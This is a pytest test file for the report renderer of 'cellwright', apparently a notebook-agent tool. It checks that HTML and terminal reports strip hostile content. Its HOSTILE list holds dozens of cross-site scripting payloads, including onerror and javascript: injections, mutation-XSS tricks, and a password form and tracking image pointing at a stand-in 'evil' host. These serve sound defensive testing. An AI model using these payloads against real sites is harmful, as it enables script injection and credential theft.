"""The report: the answer first, nothing loaded, nothing run, and no output of a notebook that could do harm."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable, Iterator
from contextlib import AbstractAsyncContextManager
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from inline_snapshot import snapshot

from cellwright.ids import CellId
from cellwright.kernel.observation import CellFault, CellOutcome, CellOutput
from cellwright.kernel.pool import KernelPool
from cellwright.kernel.process.chart_cage import ChartCage
from cellwright.kernel.session.open_notebook import OpenNotebook
from cellwright.notebook.document import CellConfig, Document
from cellwright.notebook.edits import CreateCell, apply_edits
from cellwright.runs.deliver.delivery import DeliveredCheck, DeliveredFinding, DeliveredTask, Delivery
from cellwright.runs.deliver.report.outputs import clean_output, output_html
from cellwright.runs.deliver.report.prose import prose
from cellwright.runs.deliver.report.report import draw_charts, duration, report_html, report_text
from cellwright.runs.deliver.report.sanitizer import clean, picture
from cellwright.runs.deliver.report.text import MARK
from cellwright.sandbox.host.tiers import probe

Opener = Callable[..., AbstractAsyncContextManager[OpenNotebook]]

PNG = "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(16)).decode()
DELIVERY = Delivery(
    status="partial",
    goal="Why did revenue fall in Q3?",
    title="Revenue in Q3",
    answer="Revenue fell by **12 %**, nearly all of it in *Bergen*.",
    summary="Orders fell; prices did not.",
    why="A check did not hold.",
    assumptions=("Q3 is July to September.",),
    caveats=("`returns.csv` has no September.",),
    tasks=(
        DeliveredTask(id="load", title="Load the orders", status="done"),
        DeliveredTask(id="explain", title="Explain the fall", status="failed", note="out of budget"),
    ),
    checks=(
        DeliveredCheck(name="test_totals", says="Totals agree with the ledger.", has_passed=True),
        DeliveredCheck(name="test_regions", says="All regions are there.", has_passed=False, detail="Oslo is missing"),
    ),
    problems=("Cell `chart` differs between two runs.",),
    notebook="/home/ada/secret-project/revenue.py",
    report="/home/ada/secret-project/revenue.report.html",
    microdollars=12_345,
    tokens=45_678,
    seconds=200,
)


def notebook(*codes: str) -> Document:
    document = apply_edits(Document.new(), [CreateCell(code=code) for code in codes])
    assert isinstance(document, Document)
    return document


def shown(mimetype: str, data: str, *, text: str = "") -> str:
    output = CellOutput(mimetype=mimetype, text=text, data=data)
    return output_html(CellOutcome(id=CellId("a"), name="a", status="ok", output=output))


# ── an independent look at what was written ──

TAGS = {
    "a", "abbr", "article", "b", "blockquote", "body", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del",
    "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "footer", "h1", "h2", "h3", "h4", "h5", "h6",
    "head", "header", "hr", "html", "i", "img", "ins", "kbd", "li", "main", "mark", "meta", "ol", "p", "pre", "q", "s",
    "samp", "section", "small", "span", "strong", "style", "sub", "summary", "sup", "table", "tbody", "td", "tfoot",
    "th", "thead", "time", "title", "tr", "u", "ul", "var", "wbr",
}  # fmt: skip
PAGE_ONLY = {"article", "body", "footer", "head", "header", "html", "main", "meta", "section", "style", "title"}
ATTRIBUTES = {
    "alt", "class", "colspan", "height", "href", "open", "rel", "rowspan", "span", "src", "start", "title", "width",
}  # fmt: skip
IDS = {"headline", "picture", "findings", "readings", "quality", "method", "checks"} | {
    f"finding-{number}" for number in (1, 2, 3)
}
"""Places of the page's own: what a notebook shows has none."""
VOID = {"br", "col", "hr", "img", "meta", "wbr"}


class Inspector(HTMLParser):
    """Complains about everything that may not be in a page."""

    def __init__(self, *, is_page: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.is_page = is_page
        self.complaints: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS or (not self.is_page and tag in PAGE_ONLY):
            self.complaints.append(f"<{tag}>")
        for name, value in attrs:
            self.complaints += list(self._attribute(tag, name, value or ""))
        if tag not in VOID:
            self.open.append(tag)

    def _attribute(self, tag: str, name: str, value: str) -> Iterator[str]:
        if self.is_page and (tag in {"meta", "html"} or (name.startswith("aria-label") and tag == "section")):
            return
        if self.is_page and name in {"id", "href"} and value.removeprefix("#") in IDS:
            return
        if name not in ATTRIBUTES:
            yield f"{tag} {name}"
        if name == "src" and not re.fullmatch(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[A-Za-z0-9+/=]*", value):
            yield f"src={value[:60]}"
        if name == "href" and not re.match(r"(https?://[^/]|mailto:.)", value):
            yield f"href={value[:60]}"

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.complaints.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.complaints.append(f"<!--{data[:20]}")

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html" or not self.is_page:
            self.complaints.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.complaints.append(f"<?{data[:20]}")


def complaints(html: str, *, is_page: bool = False) -> list[str]:
    inspector = Inspector(is_page=is_page)
    inspector.feed(html)
    inspector.close()
    return inspector.complaints + [f"{tag} is never closed" for tag in inspector.open]


# ── hostile output ──

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil></SCRIPT>x",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert('</script><img src=x onerror=alert(1)>')",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/png;base64,AAAA' onload=alert(1)>",
    "<img srcset='https://evil/x.png 1x'>",
    "<img src=https://evil/track.png>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href='//evil'>x</a>",
    "<a href='https://ok' onclick=alert(1) style='position:fixed' target=_top>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet>x</applet>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form action=https://evil><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil'>",
    "<base href=https://evil/>",
    "<link rel=stylesheet href=https://evil/x.css>",
    "<style>*{background:url(https://evil)}</style>",
    "<div style='background:url(https://evil)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<p>open</main></body></html><h1>outside</h1>",
    "</section></main><script>alert(1)</script>",
    "<table><tr><td><script>alert(1)</script></table></table></table>",
    "<!--<img src='--><img src=x onerror=alert(1)>-->",
    "<!-- never closed <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]>x",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<p title=`"><img/src=x/onerror=alert(1)>`>x</p>',
    "<im\0g src=x onerror=alert(1)>",
    "a\0b\x07c\x1b[31mred\ud800",
    "<b <script>alert(1)</script>",
    "<a/onmouseover=alert(1)/href=https://ok>x</a>",
    "<<b>>nested</b>",
    "<template><script>alert(1)</script></template>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><b>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "<input autofocus onfocus=alert(1)>",
    "<x-evil onclick=alert(1)>inside</x-evil>",
    "<p id=constructor name=cookie class=answer>clobber</p>",
    "<marimo-callout-output data-html='\"<script>alert(1)</script><p onclick=x>hi</p>\"'></marimo-callout-output>",
    "<marimo-mime-renderer data-mime='\"text/html\"' data-data='\"<iframe src=x></iframe>ok\"'></marimo-mime-renderer>",
    "<marimo-table data-data='[{\"<script>\": \"<img onerror=x>\"}]' data-total-rows='<b>'></marimo-table>",
    "<marimo-stat data-label='\"<script>x</script>\"' data-value='{\"a\": 1}'></marimo-stat>",
    "<marimo-slider data-label='\"<img src=x onerror=1>\"' data-initial-value='\"><script>\"'></marimo-slider>",
    '<marimo-vega data-spec=\'{"mark": [], "encoding": 3}\'></marimo-vega>',
    "<marimo-tex>||(<img src=x onerror=alert(1)>||)</marimo-tex>",
    "<marimo-json-output data-json-data='[\"</pre><script>\"]'></marimo-json-output>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_no_output_of_a_notebook_can_do_harm(markup: str) -> None:
    for html in (clean(markup), shown("text/html", markup), shown("text/markdown", markup), prose(markup)):
        assert complaints(html) == []


@pytest.mark.sampled(6)
@pytest.mark.parametrize("is_told", [True, False])
@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_is_put_into_a_report_can_do_harm(markup: str, is_told: bool) -> None:
    headline = markup if is_told else ""
    finding = DeliveredFinding(says=markup, statistics=markup, cell=markup, bars=((markup, 1.0),))
    delivery = Delivery(
        status="failed", goal=markup, title=markup, headline=headline, findings=(finding,) * 3, picture=markup,
        trust=markup, readings=(markup,), answer=markup, summary=markup, why=markup, assumptions=(markup,),
        caveats=(markup,), problems=(markup,), notebook=markup, report=markup, proof=markup,
        tasks=(DeliveredTask(id="a", title=markup, status="done", note=markup),),
        checks=(DeliveredCheck(name=markup, says=markup, has_passed=False, detail=markup),),
    )  # fmt: skip
    document = notebook("x = 1", 'mo.md("no output")')
    first = document.cells[0].id
    error = CellFault(type=markup, message=markup, traceback=markup)
    output = CellOutput(mimetype="text/html", text=markup, data=markup)
    for outcome in (
        CellOutcome(id=first, name=markup, status="failed", error=error, console=markup),
        CellOutcome(id=first, name=markup, status="ok", output=output),
    ):
        page = report_html(delivery, document, {first: outcome})
        assert complaints(page, is_page=True) == []
        assert page.encode()


def test_a_citation_leads_to_its_place_on_the_page_and_no_other_place_has_a_name() -> None:
    html = clean('<a href="#evidence-3">3</a><a id="evidence-3"></a><a href="#headline" id="headline">x</a>')
    assert html == '<a href="#evidence-3">3</a><a id="evidence-3"></a><a>x</a>'


def test_words_survive_what_is_taken_away() -> None:
    assert clean("<p onclick=x>Hello <b>you</b><script>bad()</script> &amp; <i>me</p>") == (
        "<p>Hello <b>you</b> &amp; <i>me</i></p>"
    )
    assert clean("1 < 2 && 3 > 2") == "1 &lt; 2 &amp;&amp; 3 &gt; 2"
    assert clean("<h1>Title</h1><a href='https://example.org/?a=1&amp;b=2'>x</a>") == (
        '<h2>Title</h2><a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'
    )


PIECES = st.sampled_from([
    "<", ">", "</", "/>", "<!--", "-->", "<![CDATA[", "<script", "<svg", "<p", "<div>", "</div>", "<table><tr><td>",
    "'", '"', "=", " onclick=x", " href=javascript:x", "&lt;", "&#60;", "&", "\0", "text", "<a href=https://x>", "</a>",
    "<marimo-table data-data='", "<style>", "</style>", "<img src=", PNG, "\n", "`", "<x-y>", "<pre>", "\ud800",
])  # fmt: skip


@given(st.lists(PIECES, max_size=25).map("".join))
def test_broken_markup_of_any_kind_comes_out_whole_and_harmless(markup: str) -> None:
    assert complaints(clean_output(markup)) == []


@pytest.mark.slow
@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    "piece",
    ["<", "<a ", "<!--", "<a b='", "<![CDATA[", "</", "&#", "<div>", "<script>", "<svg></x>", "<a/", "<a =", "<x-y>"],
)
def test_markup_made_to_be_slow_takes_no_longer_than_its_length(piece: str) -> None:
    """A parser that goes over the rest again for every broken tag would not come back from this."""
    assert complaints(clean(piece * 40_000)) == []


# ── pictures ──


def test_only_pictures_that_are_in_the_page_are_shown() -> None:
    assert picture(PNG) == PNG
    assert [picture(url) for url in ("https://x/y.png", "data:image/png,abc", "data:text/html;base64,AAAA", "x")] == [
        None
    ] * 4


def test_an_svg_is_shown_as_a_picture_where_its_scripts_do_nothing() -> None:
    html = shown("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>x</script></svg>")
    assert re.fullmatch(r'<img src="data:image/svg\+xml;base64,[A-Za-z0-9+/=]+" alt="">', html)
    assert complaints(html) == []


def test_a_figure_comes_as_its_picture() -> None:
    bundle = json.dumps({"image/png": PNG, "__metadata__": {"image/png": {"width": 3}}})
    assert shown("application/vnd.marimo+mimebundle", bundle) == f'<img src="{PNG}" alt="">'


# ── the page ──


def test_without_a_headline_the_answer_stands_first_and_everything_else_after_it() -> None:
    page = report_html(DELIVERY, notebook("x = 1"))
    words = [
        "partly done", "Revenue in Q3", "<strong>12 %</strong>", "Why it ended", "Problems nobody repaired",
        "How the question was read", "Data quality and caveats", "Method", "Orders fell; prices did not.",
        "The notebook", "Checks", "missed", "Oslo is missing", "passed", "What was done", "out of budget", "3 min 20 s",
    ]  # fmt: skip
    places = [page.index(word, page.index("<body>")) for word in words]
    assert places == sorted(places)
    assert complaints(page, is_page=True) == []


@pytest.mark.parametrize("words", [1, 20, 60])
def test_the_headline_and_one_picture_come_first_after_at_most_forty_words(words: int) -> None:
    document = notebook("x = 1")
    shown_image = CellOutput(mimetype="image/png", text="", data=PNG)
    cell = document.cells[0].id
    told = replace(
        DELIVERY,
        status="done",
        goal="why oh why " * 30,
        headline=" ".join(f"word{number}" for number in range(words)),
        findings=(DeliveredFinding(says="Orders fell.", statistics="p = 0.01"),),
        picture=cell,
    )
    page = report_html(told, document, {cell: CellOutcome(id=cell, name="_", status="ok", output=shown_image)})
    assert complaints(page, is_page=True) == []
    before, _, after = page.partition("<body>")[2].partition("<img ")
    assert len(re.sub(r"<[^>]*>", " ", before).split()) <= 40 and "word0" in before
    order = ["Orders fell.", "How it was checked", "How the question was read", "The notebook", "test_totals"]
    assert [after.count(words) for words in order[:1]] == [1] and "<img " not in after
    assert sorted(order, key=after.index) == order


def test_the_page_loads_nothing_runs_nothing_and_tells_no_path() -> None:
    page = report_html(DELIVERY, notebook("x = 1"))
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert policy is not None
    assert policy[1].startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")
    assert MARK in page[:500]
    assert "/home/ada" not in page and "revenue.py" in page
    assert "url(" not in page and "@import" not in page and "<script" not in page


def test_a_report_without_a_notebook_or_an_answer_still_says_what_happened() -> None:
    page = report_html(Delivery(status="refused", goal="Send the data away", why="The rules say no."))
    assert "refused" in page and "The rules say no." in page and "Send the data away" in page
    assert complaints(page, is_page=True) == []


def test_secrets_can_be_masked_in_the_whole_page() -> None:
    page = report_html(DELIVERY, notebook("key = 'hunter2'"), masked=lambda text: text.replace("hunter2", "****"))
    assert "hunter2" not in page and "****" in page


def test_markdown_that_did_not_run_is_shown_as_it_was_written() -> None:
    page = report_html(DELIVERY, notebook('mo.md("## Orders\\n\\nThey *fell*.")'))
    assert "<h3>Orders</h3>" in page and "<em>fell</em>" in page


@pytest.mark.slow
def test_a_page_that_would_be_huge_leaves_outputs_out_and_says_so() -> None:
    document = notebook(*(f"x{number} = 1" for number in range(12)))
    rich = CellOutput(mimetype="image/png", text="", data="data:image/png;base64," + "A" * 8_000_000)
    outcomes = {cell.id: CellOutcome(id=cell.id, name="x", status="ok", output=rich) for cell in document.cells}
    page = report_html(DELIVERY, document, outcomes)
    assert len(page) < 45_000_000 and "This page is full" in page


@pytest.mark.slow
async def test_what_a_real_notebook_shows_is_in_its_report(opened: Opener, pool: KernelPool) -> None:
    codes = [
        "import marimo as mo\nimport pandas as pd\nimport altair as alt\nimport matplotlib.pyplot as plt",
        'mo.md("# Penguins\\n\\nHow **heavy** are they? $x^2$")',
        "frame = pd.DataFrame({'species': ['Adelie', '<b>Gentoo</b>'], 'grams': [3700.5, 5076.0]})\nframe",
        "alt.Chart(frame).mark_bar().encode(x='species', y='grams').properties(title='Mass')",
        "fig, ax = plt.subplots()\nax.plot([1, 2])\nfig",
        "mo.hstack([mo.stat(value=42, label='birds'), mo.callout('Careful')])",
        "print('counted')\n{'adelie': 152}",
        "mo.ui.slider(1, 10, label='mass')",
        "1 / 0",
        "mo.ui.altair_chart(alt.Chart(frame).mark_bar().encode(x='species', y='grams'))",
        "mo.Html('<script>alert(1)</script><b>bold</b>')",
        "mo.vstack([fig, mo.accordion({'more': mo.md('folded *text*')})])",
    ]
    async with opened(*codes) as notebook:
        await notebook.run("all")
        charts = await draw_charts(notebook.outcomes, ChartCage(zygote=await pool.zygote(), tier=probe().tier).draw)
        page = report_html(DELIVERY, notebook.document, notebook.outcomes, charts=charts)
    assert complaints(page, is_page=True) == []
    body = page[page.index("The notebook") :]
    for words in (
        "<h2>Penguins</h2>",
        "<strong>heavy</strong>",
        "<code>x^2</code>",
        "<th>species</th><th>grams</th>",
        '<td>&lt;b&gt;Gentoo&lt;/b&gt;</td><td class="number">5,076</td>',
        '<img src="data:image/svg+xml;base64,',
        '<img src="data:image/png;base64,',
        "<strong>42</strong>",
        "Careful",
        "counted",
        "&quot;adelie&quot;: 152",
        "mass</span></span> = 1",
        "<strong>ZeroDivisionError</strong> in line 1: division by zero",
        "<b>bold</b>",
        "folded <em>text</em>",
        "<summary>code</summary>",
    ):
        assert words in body, words
    assert body.count('<img src="data:image/png') == 2 and body.count('class="chart"') == 2


def test_a_large_table_is_cut_and_says_so() -> None:
    rows = json.dumps(json.dumps([{f"c{column}": row for column in range(50)} for row in range(150)]))
    html = clean_output(f"<marimo-table data-data='{rows}' data-total-rows='9000'></marimo-table>")
    assert html.endswith('<p class="note">100 of 9,000 rows, 40 of 50 columns</p>')
    assert html.count("<tr>") == 101


def test_a_hidden_markdown_cell_and_an_empty_one_show_no_code() -> None:
    document = apply_edits(
        Document.new(), [CreateCell(code='mo.md("Hi")', config=CellConfig(hide_code=True)), CreateCell(code="")]
    )
    assert isinstance(document, Document)
    assert "<summary>code" not in report_html(DELIVERY, document)


# ── for a terminal ──


def test_the_report_in_words_begins_with_the_answer() -> None:
    assert report_text(DELIVERY) == snapshot("""\
Revenue fell by **12 %**, nearly all of it in *Bergen*.

Partly done: A check did not hold.

Orders fell; prices did not.

Assumptions:
- Q3 is July to September.

Caveats:
- `returns.csv` has no September.

Problems nobody repaired:
- Cell `chart` differs between two runs.

Checks:
- passed: Totals agree with the ledger.
- MISSED: All regions are there. (Oslo is missing)

Tasks that are not done:
- Explain the fall: failed

cost: $0.0123 (45,678 tokens)
time: 3 min 20 s
notebook: /home/ada/secret-project/revenue.py
report: /home/ada/secret-project/revenue.report.html
""")


def test_words_of_a_model_cannot_move_the_cursor_of_a_terminal() -> None:
    text = report_text(Delivery(status="done", goal="g", answer="a\x1b[2Jb\rc\x07", caveats=("x\ny\x1b]0;t\x07",)))
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", text)


def test_an_unknown_price_is_called_unknown() -> None:
    text = report_text(Delivery(status="done", goal="g", answer="42", microdollars=2_500_000, is_price_known=False))
    assert text == "42\n\ncost: unknown, at least $2.50\ntime: 0 s\n"


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(-3, "0 s"), (59.9, "59 s"), (60, "1 min 00 s"), (3_599, "59 min 59 s"), (7_500, "2 h 05 min")],
)
def test_a_time_is_said_as_people_say_it(seconds: float, said: str) -> None:
    assert duration(seconds) == said


def test_the_style_is_part_of_the_package() -> None:
    import cellwright.runs.deliver.report as room

    assert (Path(room.__file__).parent / "style.css").is_file()
